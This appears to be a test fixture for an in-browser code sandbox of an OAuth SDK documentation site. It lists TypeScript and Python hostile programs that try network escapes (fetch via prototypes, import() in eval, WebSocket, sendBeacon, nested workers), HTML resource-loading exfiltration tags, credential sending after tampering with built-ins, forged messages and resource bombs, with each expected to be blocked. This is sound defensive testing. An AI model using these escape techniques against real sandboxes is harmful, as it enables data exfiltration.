@@ -1,0 +1,504 @@
+/**
+ * The containment contract's hostile programs, one entry per language that runs in the page.
+ * `e2e/containment.spec.ts` runs every case of every entry and makes the same assertions for all:
+ * a runtime meets the contract by supplying its programs here (Ruby, PHP and Go add an entry).
+ *
+ * Each program prints what it tried, one line per attempt (`name: closed` when the attempt threw
+ * or was refused), so the expected lines are data too. Programs that attack the network get the
+ * loopback target the spec watches (`target`, `host:port`); none prints a secret itself.
+ */
+
+export interface HostilePrograms {
+  /** Network escapes through the language's own HTTP and JavaScript bridges. */
+  network: { program: (target: string) => string; lines: string[] };
+  /** Requests answered by the sandbox's mock server however the code reaches fetch. */
+  mockedFetch: { program: string; lines: string[] };
+  /** The worker's storage and the site's: closed, or the worker's own memory (gone with it). */
+  storage: { program: string; lines: string[] };
+  /** Messages forged to the page or to the worker itself: ignored, the run goes on. */
+  forgedMessages: { program: string; lines: string[] };
+  /** A consent screen whose "page as the server sent it" would load from `target`. */
+  consentHtml: (target: string) => string;
+  /** The demo secrets sent in every encoding (headers, forms, multipart sent twice, JSON). */
+  secretsSent: string;
+  /** The same after replacing the built-ins masking would use. */
+  secretsSentAfterTampering: string;
+  /** A timer's callback that throws, then the run goes on and prints `still running`. */
+  uncaughtTimerError: { program: string; errorLine: RegExp };
+  /** Timers left behind that print `late` after the run ended. */
+  outlivesRun: string;
+  endlessLoop: string;
+  /** Allocations the runtime refuses: each ends the run with an error, quickly. */
+  memoryBomb: string;
+  recursionBomb: string;
+  /** Millions of characters of output and of error. */
+  hugeOutput: string;
+  /** The runtime itself dying: reported at once with what happened. */
+  fatal: { name: string; program: string; status: RegExp }[];
+}
+
+export interface RuntimeUnderTest {
+  /** The tab's label. */
+  label: string;
+  /** Console errors the runtime itself logs in a case, each with why it is allowed. */
+  allowedConsoleErrors?: { pattern: RegExp; reason: string }[];
+  programs: HostilePrograms;
+}
+
+/** The demo credentials: never in anything the page receives from a run. */
+export const secrets = {
+  clientSecret: 'OAuthClientSecret',
+  password: 'OAuthPassword',
+  basic: Buffer.from('OAuthClientId:OAuthClientSecret').toString('base64'),
+};
+
+const hostileHtml = (target: string) =>
+  [
+    `<img src="http://${target}/img.png">`,
+    `<img srcset="http://${target}/srcset.png 2x">`,
+    `<link rel="stylesheet" href="http://${target}/style.css">`,
+    `<link rel="prefetch" href="http://${target}/prefetch">`,
+    `<iframe src="http://${target}/frame.html"></iframe>`,
+    `<body background="http://${target}/background.png">`,
+    `<div style="background:url(http://${target}/inline-style.png)">x</div>`,
+    `<style>body{background:url(http://${target}/style-element.png)}</style>`,
+    `<video poster="http://${target}/poster.png" src="http://${target}/video.mp4"></video>`,
+    `<object data="http://${target}/object"></object>`,
+    `<meta http-equiv="refresh" content="0;url=http://${target}/refresh">`,
+    `<svg><image href="http://${target}/svg.png"/></svg>`,
+  ].join('\n');
+
+// ---------------------------------------------------------------------------------------------
+// TypeScript
+
+const tsProbe = `
+async function probe(attempts: [string, () => unknown][]) {
+  for (const [name, attempt] of attempts) {
+    try {
+      await attempt();
+      console.log(\`\${name}: open\`);
+    } catch {
+      console.log(\`\${name}: closed\`);
+    }
+  }
+}
+/** A member as the browser defined it: from the prototypes first, then the object itself. */
+function dig(object: object, name: string): any {
+  for (let current: any = Object.getPrototypeOf(object); current; current = Object.getPrototypeOf(current)) {
+    const own = Object.getOwnPropertyDescriptor(current, name);
+    if (own) return own.get ? own.get.call(object) : own.value;
+  }
+  return (object as any)[name];
+}
+`;
+
+const tsSendSecrets = `
+const token = 'https://auth.example.com/oauth2/token';
+const basic = 'Basic ' + btoa('OAuthClientId:OAuthClientSecret');
+const send = (input: RequestInfo, init?: RequestInit) => fetch(input, init).catch(() => undefined);
+const form = new FormData();
+form.set('grant_type', 'password');
+form.set('client_secret', 'OAuthClientSecret');
+form.set('password', 'OAuthPassword');
+// As Pyodide's pyfetch does: a Request with the form, and the form again (a second boundary).
+await send(new Request(token, { method: 'POST', body: form }), { method: 'POST', body: form });
+await send(token, { method: 'POST', body: form });
+await send(token, { method: 'POST', headers: { authorization: basic, 'content-type': 'application/x-www-form-urlencoded' }, body: 'grant_type=password&username=OAuthUsername&password=OAuthPassword' });
+await send(token, { method: 'POST', headers: { 'content-type': 'application/json', 'x-client-secret': 'OAuthClientSecret' }, body: JSON.stringify({ clientSecret: 'OAuthClientSecret', password: 'OAuthPassword' }) });
+await send(token, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'client_secret=OAuthClientSecret&password=OAuthPassword' });
+await send(token + '?client_secret=OAuthClientSecret&password=OAuthPassword');
+import { Client } from 'sdk';
+const client = new Client({
+  resourceOwnerAuthCredentials: {
+    oAuthClientId: 'OAuthClientId',
+    oAuthClientSecret: 'OAuthClientSecret',
+    oAuthUsername: 'OAuthUsername',
+    oAuthPassword: 'OAuthPassword',
+  },
+});
+await client.resourceOwnerAuthManager!.fetchToken();
+console.log('sent');
+`;
+
+const typescript: RuntimeUnderTest = {
+  label: 'TypeScript',
+  programs: {
+    network: {
+      program: (target) => `${tsProbe}
+await probe([
+  ['fetch of another host', () => fetch('http://${target}/fetch')],
+  ['fetch through the prototype', () => dig(self, 'fetch').call(self, 'http://${target}/prototype-fetch')],
+  ['import() hidden in eval', () => (0, eval)("import('http://${target}/eval.js')")],
+  ['import() hidden in new Function', () => new Function("return import('http://${target}/function.js')")()],
+  ['FontFace', () => new FontFace('x', 'url(http://${target}/font.woff)').load()],
+  ['importScripts on a prototype', () => dig(self, 'importScripts').call(self, 'http://${target}/script.js')],
+  ['WebSocket', () => new WebSocket('ws://${target}/socket')],
+  ['EventSource', () => new EventSource('http://${target}/events')],
+  ['XMLHttpRequest', () => new XMLHttpRequest()],
+  ['sendBeacon', () => dig(navigator, 'sendBeacon').call(navigator, 'http://${target}/beacon')],
+  ['nested Worker', () => new Worker('data:text/javascript,fetch("http://${target}/nested")')],
+]);`,
+      lines: [
+        'fetch of another host: closed',
+        'fetch through the prototype: closed',
+        'import() hidden in eval: closed',
+        'import() hidden in new Function: closed',
+        'FontFace: closed',
+        'importScripts on a prototype: closed',
+        'WebSocket: closed',
+        'EventSource: closed',
+        'XMLHttpRequest: closed',
+        'sendBeacon: closed',
+        'nested Worker: closed',
+      ],
+    },
+    mockedFetch: {
+      program: `${tsProbe}
+const metadata = 'https://auth.example.com/.well-known/oauth-authorization-server';
+for (const [name, fetchWith] of [
+  ['fetch', fetch],
+  ['fetch through the prototype', dig(self, 'fetch')],
+] as const) {
+  const response = await fetchWith.call(self, metadata).catch(() => undefined);
+  console.log(\`\${name}: \${response ? response.status : 'refused'}\`);
+}`,
+      lines: ['fetch: 200', 'fetch through the prototype: 200'],
+    },
+    storage: {
+      program: `${tsProbe}
+await probe([
+  ['IndexedDB', () => dig(self, 'indexedDB').open('left-behind')],
+  ['Cache API', () => dig(self, 'caches').open('left-behind')],
+  ['OPFS', () => dig(navigator, 'storage').getDirectory()],
+  ['Web Locks', () => dig(navigator, 'locks').request('held', () => new Promise(() => {}))],
+  ['BroadcastChannel', () => new BroadcastChannel('runs').postMessage('hello')],
+]);
+console.log(\`left by an earlier run: \${localStorage.getItem('left-behind') ?? 'nothing'}\`);
+localStorage.setItem('left-behind', 'something');`,
+      lines: [
+        'IndexedDB: closed',
+        'Cache API: closed',
+        'OPFS: closed',
+        'Web Locks: closed',
+        'BroadcastChannel: closed',
+        'left by an earlier run: nothing',
+      ],
+    },
+    forgedMessages: {
+      program: `${tsProbe}
+const forgedEnd = { type: 'done', outcome: { kind: 'ok', durationMs: 1 } };
+const forgedLine = { type: 'events', events: [{ kind: 'console', level: 'log', text: 'FORGED' }] };
+await probe([
+  ['postMessage', () => (self as any).postMessage(forgedEnd)],
+  ['postMessage on a prototype', () => dig(self, 'postMessage').call(self, forgedLine)],
+  ['close', () => (self as any).close()],
+]);
+// A decision nobody asked for, dispatched on the worker itself: ignored.
+self.dispatchEvent(new MessageEvent('message', { data: { type: 'consent-decision', id: 1, decision: 'approve' } }));
+await new Promise((resolve) => setTimeout(resolve, 200));
+console.log('the real end');`,
+      lines: [
+        'postMessage: closed',
+        'postMessage on a prototype: closed',
+        'close: closed',
+        'the real end',
+      ],
+    },
+    consentHtml: (target) => `
+const handler = (globalThis as any)[Symbol.for('oauth-sdk-docs.sandbox.environment')].consentHandler;
+const decision = await handler({
+  clientId: 'OAuthClientId',
+  clientName: 'Hostile client',
+  scopes: ['read'],
+  redirectUri: 'https://example.com/oauth/callback',
+  html: ${JSON.stringify(hostileHtml(target))},
+});
+console.log(\`decision: \${decision}\`);`,
+    secretsSent: tsSendSecrets,
+    secretsSentAfterTampering: `
+const identity = function (this: unknown) { return this; };
+String.prototype.toLowerCase = identity as any;
+String.prototype.replace = identity as any;
+String.prototype.split = (() => []) as any;
+String.prototype.slice = identity as any;
+String.prototype.indexOf = () => -1;
+RegExp.prototype.exec = () => null;
+RegExp.prototype.test = () => false;
+Array.prototype.map = identity as any;
+Array.prototype.join = () => '';
+Set.prototype.has = () => false;
+Object.entries = () => [];
+(globalThis as any).atob = () => '';
+${tsSendSecrets}`,
+    uncaughtTimerError: {
+      program: `setTimeout(() => { throw new Error('thrown by a timer'); }, 0);
+Promise.reject(new Error('rejected, never awaited'));
+await new Promise((resolve) => setTimeout(resolve, 300));
+console.log('still running');`,
+      errorLine: /thrown by a timer/,
+    },
+    outlivesRun: `setTimeout(() => console.log('late'), 7_000);
+setInterval(() => fetch('https://auth.example.com/.well-known/oauth-authorization-server'), 1_000);
+console.log('started the timers');`,
+    endlessLoop: 'for (;;) {}',
+    memoryBomb: `const kept: unknown[] = [];
+kept.push(new ArrayBuffer(2 ** 40));`,
+    recursionBomb: 'const down = (n: number): number => down(n + 1) + 1;\ndown(0);',
+    hugeOutput: `console.log('y'.repeat(5_000_000));
+console.log('line\\n'.repeat(100_000));
+throw new Error('x'.repeat(2_000_000));`,
+    fatal: [],
+  },
+};
+
+// ---------------------------------------------------------------------------------------------
+// Python (Pyodide)
+
+const pyProbe = `import js
+from pyodide.code import run_js
+from pyodide.ffi import create_proxy, to_js
+
+
+async def probe(attempts):
+    for name, attempt in attempts:
+        try:
+            result = attempt()
+            if hasattr(result, "__await__"):
+                await result
+            print(f"{name}: open")
+        except BaseException:
+            print(f"{name}: closed")
+
+
+# A member as the browser defined it: from the prototypes first, then the object itself.
+dig = run_js("""(object, name) => {
+  for (let current = Object.getPrototypeOf(object); current; current = Object.getPrototypeOf(current)) {
+    const own = Object.getOwnPropertyDescriptor(current, name);
+    if (own) return own.get ? own.get.call(object) : own.value;
+  }
+  return object[name];
+}""")
+
+
+def js_object(**fields):
+    return to_js(fields, dict_converter=js.Object.fromEntries)
+`;
+
+const pySendSecrets = `import js
+from pyodide.http import pyfetch
+from pyodide.ffi import to_js
+
+token = "https://auth.example.com/oauth2/token"
+
+
+async def send(url, **options):
+    try:
+        await pyfetch(url, **options)
+    except BaseException:
+        pass
+
+
+form = js.FormData.new()
+form.set("grant_type", "password")
+form.set("client_secret", "OAuthClientSecret")
+form.set("password", "OAuthPassword")
+# pyfetch builds a Request with the form and fetches it with the form again: two boundaries.
+await send(token, method="POST", body=form)
+basic = "Basic " + js.btoa("OAuthClientId:OAuthClientSecret")
+await send(token, method="POST", headers=to_js({"authorization": basic, "content-type": "application/x-www-form-urlencoded"}, dict_converter=js.Object.fromEntries), body="grant_type=password&username=OAuthUsername&password=OAuthPassword")
+await send(token, method="POST", headers=to_js({"content-type": "application/json", "x-client-secret": "OAuthClientSecret"}, dict_converter=js.Object.fromEntries), body='{"clientSecret": "OAuthClientSecret", "password": "OAuthPassword"}')
+await send(token, method="POST", headers=to_js({"content-type": "text/plain"}, dict_converter=js.Object.fromEntries), body="client_secret=OAuthClientSecret&password=OAuthPassword")
+await send(token + "?client_secret=OAuthClientSecret&password=OAuthPassword")
+
+from sdk.http.auth.o_auth_2 import ResourceOwnerAuthCredentials
+from sdk.sdk_client import SdkClient
+
+client = SdkClient(
+    resource_owner_auth_credentials=ResourceOwnerAuthCredentials(
+        o_auth_client_id="OAuthClientId",
+        o_auth_client_secret="OAuthClientSecret",
+        o_auth_username="OAuthUsername",
+        o_auth_password="OAuthPassword",
+    )
+)
+client.http_ropcg.fetch_token()
+print("sent")
+`;
+
+const python: RuntimeUnderTest = {
+  label: 'Python',
+  allowedConsoleErrors: [
+    {
+      pattern:
+        /Pyodide has suffered a fatal error|The cause of the fatal error was|RangeError: Maximum call stack|Stack \(most recent call first\)|File "|^\s*$|at /,
+      reason:
+        "Pyodide reports a fatal error to the worker's console itself, before its on_fatal hook ends the run",
+    },
+  ],
+  programs: {
+    network: {
+      program: (target) => `${pyProbe}
+from pyodide.http import pyfetch
+from pyodide.code import run_js
+from js import WebSocket
+
+url = "http://${target}"
+await probe([
+    ("pyodide.http.pyfetch", lambda: pyfetch(f"{url}/pyfetch")),
+    ("js.fetch", lambda: js.fetch(f"{url}/js-fetch")),
+    ("fetch through the prototype", lambda: dig(js.self, "fetch").call(js.self, f"{url}/prototype-fetch")),
+    ("import() through run_js", lambda: run_js(f"import('{url}/run-js.js')")),
+    ("import() through js.eval", lambda: js.eval(f"import('{url}/eval.js')")),
+    ("importScripts on a prototype", lambda: dig(js.self, "importScripts").call(js.self, f"{url}/script.js")),
+    ("WebSocket", lambda: WebSocket.new("ws://${target}/socket")),
+    ("EventSource", lambda: js.EventSource.new(f"{url}/events")),
+    ("XMLHttpRequest", lambda: js.XMLHttpRequest.new()),
+    ("sendBeacon", lambda: dig(js.navigator, "sendBeacon").call(js.navigator, f"{url}/beacon")),
+    ("nested Worker", lambda: js.Worker.new(f"data:text/javascript,fetch('{url}/nested')")),
+])`,
+      lines: [
+        'pyodide.http.pyfetch: closed',
+        'js.fetch: closed',
+        'fetch through the prototype: closed',
+        'import() through run_js: closed',
+        'import() through js.eval: closed',
+        'importScripts on a prototype: closed',
+        'WebSocket: closed',
+        'EventSource: closed',
+        'XMLHttpRequest: closed',
+        'sendBeacon: closed',
+        'nested Worker: closed',
+      ],
+    },
+    mockedFetch: {
+      program: `${pyProbe}
+from pyodide.http import pyfetch
+
+metadata = "https://auth.example.com/.well-known/oauth-authorization-server"
+for name, attempt in [
+    ("pyfetch", lambda: pyfetch(metadata)),
+    ("js.fetch", lambda: js.fetch(metadata)),
+    ("fetch through the prototype", lambda: dig(js.self, "fetch").call(js.self, metadata)),
+]:
+    try:
+        response = await attempt()
+        print(f"{name}: {response.status}")
+    except BaseException:
+        print(f"{name}: refused")`,
+      lines: ['pyfetch: 200', 'js.fetch: 200', 'fetch through the prototype: 200'],
+    },
+    storage: {
+      program: `${pyProbe}
+await probe([
+    ("IndexedDB", lambda: dig(js.self, "indexedDB").open("left-behind")),
+    ("Cache API", lambda: dig(js.self, "caches").open("left-behind")),
+    ("OPFS", lambda: dig(js.navigator, "storage").getDirectory()),
+    ("Web Locks", lambda: dig(js.navigator, "locks").request("held", create_proxy(lambda lock: js.Promise.new(create_proxy(lambda resolve, reject: None))))),
+    ("BroadcastChannel", lambda: js.BroadcastChannel.new("runs").postMessage("hello")),
+])
+left = js.localStorage.getItem("left-behind")
+print(f"left by an earlier run: {left if isinstance(left, str) else 'nothing'}")
+js.localStorage.setItem("left-behind", "something")`,
+      lines: [
+        'IndexedDB: closed',
+        'Cache API: closed',
+        'OPFS: closed',
+        'Web Locks: closed',
+        'BroadcastChannel: closed',
+        'left by an earlier run: nothing',
+      ],
+    },
+    forgedMessages: {
+      program: `${pyProbe}
+import asyncio
+
+forged_end = js_object(type="done", outcome=js_object(kind="ok", durationMs=1))
+forged_line = js_object(type="events", events=[js_object(kind="console", level="log", text="FORGED")])
+await probe([
+    ("postMessage", lambda: js.postMessage(forged_end)),
+    ("postMessage on a prototype", lambda: dig(js.self, "postMessage").call(js.self, forged_line)),
+    ("close", lambda: js.close()),
+])
+decision = js_object(type="consent-decision", id=1, decision="approve")
+js.self.dispatchEvent(js.MessageEvent.new("message", js_object(data=decision)))
+await asyncio.sleep(0.2)
+print("the real end")`,
+      lines: [
+        'postMessage: closed',
+        'postMessage on a prototype: closed',
+        'close: closed',
+        'the real end',
+      ],
+    },
+    consentHtml: (target) => `import json
+import runner_host
+
+view = {
+    "clientId": "OAuthClientId",
+    "clientName": "Hostile client",
+    "scopes": ["read"],
+    "redirectUri": "https://example.com/oauth/callback",
+    "html": ${JSON.stringify(hostileHtml(target))},
+}
+decision = await runner_host.consent(json.dumps(view))
+print(f"decision: {decision}")`,
+    secretsSent: pySendSecrets,
+    secretsSentAfterTampering: `from pyodide.code import run_js
+
+run_js("""
+const identity = function () { return this; };
+String.prototype.toLowerCase = identity;
+String.prototype.replace = identity;
+String.prototype.slice = identity;
+String.prototype.indexOf = () => -1;
+RegExp.prototype.exec = () => null;
+RegExp.prototype.test = () => false;
+Array.prototype.join = () => '';
+Set.prototype.has = () => false;
+Object.entries = () => [];
+""")
+${pySendSecrets}`,
+    uncaughtTimerError: {
+      program: `import asyncio
+import js
+from pyodide.ffi import create_proxy
+
+
+def throws():
+    raise ValueError("raised in a timer")
+
+
+js.setTimeout(create_proxy(throws), 0)
+await asyncio.sleep(0.3)
+print("still running")`,
+      errorLine: /ValueError: raised in a timer/,
+    },
+    outlivesRun: `import js
+from pyodide.ffi import create_proxy
+
+js.setTimeout(create_proxy(lambda: print("late")), 7_000)
+js.setInterval(create_proxy(lambda: js.fetch("https://auth.example.com/.well-known/oauth-authorization-server")), 1_000)
+print("started the timers")`,
+    endlessLoop: 'while True:\n    pass',
+    memoryBomb: 'kept = []\nkept.append(bytearray(8 * 1024 ** 3))',
+    recursionBomb: 'def down(n):\n    return down(n + 1) + 1\n\n\ndown(0)',
+    hugeOutput: `print("y" * 5_000_000)
+print("line\\n" * 100_000)
+raise Exception("x" * 2_000_000)`,
+    fatal: [
+      {
+        name: 'a C stack overflow in repr() of a deeply nested list',
+        program: 'nested = []\nfor _ in range(1_000_000):\n    nested = [nested]\nrepr(nested)',
+        status: /^The runner stopped unexpectedly: the interpreter crashed: .+/,
+      },
+      {
+        name: 'os._exit(3)',
+        program: 'import os\n\nprint("exiting")\nos._exit(3)',
+        status: /^Failed after .*: SystemExit: the program exited with status 3$/,
+      },
+    ],
+  },
+};
+
+/** Every language that runs in the page, and its hostile programs. */
+export const runtimesUnderTest: RuntimeUnderTest[] = [typescript, python];
